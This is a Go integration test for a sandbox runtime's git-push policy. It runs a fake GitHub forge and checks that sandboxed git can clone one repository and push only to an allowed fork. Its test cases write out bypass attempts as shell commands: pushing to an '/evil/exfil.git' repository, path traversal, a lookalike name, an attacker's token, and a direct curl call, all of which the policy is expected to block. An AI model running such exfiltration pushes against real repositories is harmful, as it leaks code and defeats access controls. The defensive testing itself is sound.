// SPDX-License-Identifier: Apache-2.0

package integration

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/cgi"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"openshell.dev/runtime/integration/upstream"
)

// forge is GitHub's git over HTTPS with the repositories of several people, which
// takes any push that has the token.
type forge struct {
	root, token string
	backend     http.Handler

	mu sync.Mutex
	// pushed are the pushes that arrived, "REPOSITORY USER:TOKEN" each; odd is what
	// arrived with anything but the token or nothing.
	pushed, odd []string
}

func newForge(t *testing.T, token string, repositories ...string) *forge {
	t.Helper()
	f := &forge{root: t.TempDir(), token: token}
	for _, r := range repositories {
		f.git(t, "init", "--quiet", "--bare", "--initial-branch", "main", filepath.Join(f.root, r))
		f.git(t, "-C", filepath.Join(f.root, r), "config", "http.receivepack", "true")
	}
	f.backend = &cgi.Handler{
		Path: filepath.Join(f.git(t, "--exec-path"), "git-http-backend"), Root: "/",
		Env: []string{"GIT_PROJECT_ROOT=" + f.root, "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=pusher", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*"},
	}
	return f
}

func (f *forge) git(t *testing.T, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_SYSTEM=/dev/null")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v: %s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

func (f *forge) ServeHTTP(w http.ResponseWriter, q *http.Request) {
	auth := q.Header.Get("Authorization")
	basic, err := base64.StdEncoding.DecodeString(strings.TrimPrefix(auth, "Basic "))
	mine := err == nil && strings.HasSuffix(string(basic), ":"+f.token)
	receives := strings.HasSuffix(q.URL.Path, "/git-receive-pack") || q.URL.Query().Get("service") == "git-receive-pack"
	f.mu.Lock()
	if auth != "" && !mine {
		f.odd = append(f.odd, auth)
	}
	if mine && q.Method == http.MethodPost && receives {
		f.pushed = append(f.pushed, strings.TrimSuffix(q.URL.Path, "/git-receive-pack")+" "+string(basic))
	}
	f.mu.Unlock()
	if receives && !mine {
		w.Header().Set("WWW-Authenticate", `Basic realm="forge"`)
		w.WriteHeader(http.StatusUnauthorized)
		return
	}
	f.backend.ServeHTTP(w, q)
}

// TestBypass_B70_B71_Git: with docs/policies/git-push.yaml git clones the one
// repository and pushes to the other, by SSH's names too, with a token that it does
// not have. No other push, and nothing of another repository, arrives.
func TestBypass_B70_B71_Git(t *testing.T) {
	rootfs := debian(t)
	text, err := os.ReadFile("../docs/policies/git-push.yaml")
	if err != nil {
		t.Fatal(err)
	}
	const secondary = "/evil/exfil.git"
	policy := strings.NewReplacer("OWNER/REPO", "acme/app", "FORK/REPO", "agent/app").Replace(string(text))
	w := newWorld(t, policy)
	w.rootfs = rootfs
	f := newForge(t, "ghp_the-real-token-"+random(t), "acme/app.git", "acme/other.git", "agent/app.git", "agent/app-2.git", secondary)
	// Something to clone.
	seed := t.TempDir()
	f.git(t, "init", "--quiet", "--initial-branch", "main", seed)
	f.git(t, "-C", seed, "-c", "user.name=a", "-c", "user.email=a@test", "commit", "--quiet", "--allow-empty", "--message", "first")
	f.git(t, "-C", seed, "push", "--quiet", filepath.Join(f.root, "acme/app.git"), "main")

	up, err := upstream.Open("github.com")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = up.Close() })
	up.Handler = f
	ca := filepath.Join(w.dir, "upstream.pem")
	if err := up.WriteCA(ca); err != nil {
		t.Fatal(err)
	}
	store := filepath.Join(w.dir, "providers")
	cmd := exec.Command(filepath.Join(built.bin, "openshell"), "provider", "create", "forge", "--type", "github", "--from-existing", "--store", store)
	cmd.Env = []string{"GITHUB_TOKEN=" + f.token}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	w.file("config.yaml", "log_dir: "+w.records()+"\nproviders_dir: "+store+"\n")
	flags := []string{"--add-host", "github.com:" + up.Addr.String(), "--upstream-ca", ca, "--provider", "forge", "-w", "/tmp"}

	const work = `set -e; git clone --quiet https://github.com/acme/app r; cd r; git -c user.name=a -c user.email=a@test commit --quiet --allow-empty --message more; `
	refs := func(repo, service string) string {
		return "GET " + repo + "/info/refs?service=git-" + service + "-pack"
	}
	cloned := []string{refs("/acme/app", "upload"), "POST /acme/app/git-upload-pack", "POST /acme/app/git-upload-pack"}
	pushed := func(repo string) []string {
		return slices.Concat(cloned, []string{refs(repo, "receive"), "POST " + repo + "/git-receive-pack"})
	}
	for _, tc := range []struct {
		name, script string
		flags        []string
		fails        bool
		arrives      []string
		pushed       string
	}{
		{name: "clone", script: "git clone --quiet https://github.com/acme/app r", arrives: cloned},
		{name: "clone as SSH's", script: "git clone --quiet git@github.com:acme/app r", arrives: cloned},
		{name: "push", script: work + "git push --quiet https://github.com/agent/app main", arrives: pushed("/agent/app"), pushed: "/agent/app"},
		{name: "push as SSH's", script: work + "git push --quiet ssh://git@github.com/agent/app.git main:two", arrives: pushed("/agent/app.git"), pushed: "/agent/app.git"},
		{name: "push to where it was cloned from", script: work + "git push", fails: true, arrives: cloned},
		{name: "push to somebody's own", script: work + "git push https://github.com" + secondary + " main", fails: true, arrives: cloned},
		{name: "push to a similar name", script: work + "git push https://github.com/agent/app-2 main", fails: true, arrives: cloned},
		{name: "push around", script: work + "git push https://github.com/agent/app/../.." + secondary + " main", fails: true, arrives: cloned},
		{name: "push with another's token", script: work + "git -c http.extraHeader= push https://x:ghp_attackers@github.com" + secondary + " main", fails: true, arrives: cloned},
		{name: "clone of another", script: "git clone https://github.com/acme/other r", fails: true},
		{name: "another program", script: "curl --fail 'https://github.com/acme/app/info/refs?service=git-upload-pack'", fails: true},
		// The control: it is the environment that has SSH's names mean HTTPS.
		{name: "settings of one's own", script: "git clone git@github.com:acme/app r", flags: []string{"-e", "GIT_CONFIG_COUNT=0"}, fails: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before := len(up.Requests())
			f.mu.Lock()
			f.pushed = nil
			f.mu.Unlock()
			out, status := w.runWith(slices.Concat(flags, tc.flags), "/bin/sh", "-c", tc.script)
			if (status != 0) != tc.fails || strings.Contains(out, f.token) {
				t.Errorf("status %d, printed %s", status, out)
			}
			var arrived []string
			for _, q := range up.Requests()[before:] {
				line := q.Method + " " + q.Path
				if q.Query != "" {
					line += "?" + q.Query
				}
				arrived = append(arrived, line)
			}
			if !slices.Equal(arrived, tc.arrives) {
				t.Errorf("arrived: %q, want %q", arrived, tc.arrives)
			}
			f.mu.Lock()
			defer f.mu.Unlock()
			if want := fmt.Sprint(tc.pushed, " x-access-token:", f.token); tc.pushed != "" && !slices.Equal(f.pushed, []string{want}) || tc.pushed == "" && len(f.pushed) > 0 {
				t.Errorf("pushed: %q", f.pushed)
			}
		})
	}
	if len(f.odd) > 0 {
		t.Errorf("arrived with %q", f.odd)
	}
	if got := f.git(t, "-C", filepath.Join(f.root, "agent/app.git"), "log", "--format=%s", "main"); got != "more\nfirst" {
		t.Errorf("the fork has %q", got)
	}
	w.nothingRemains()
}
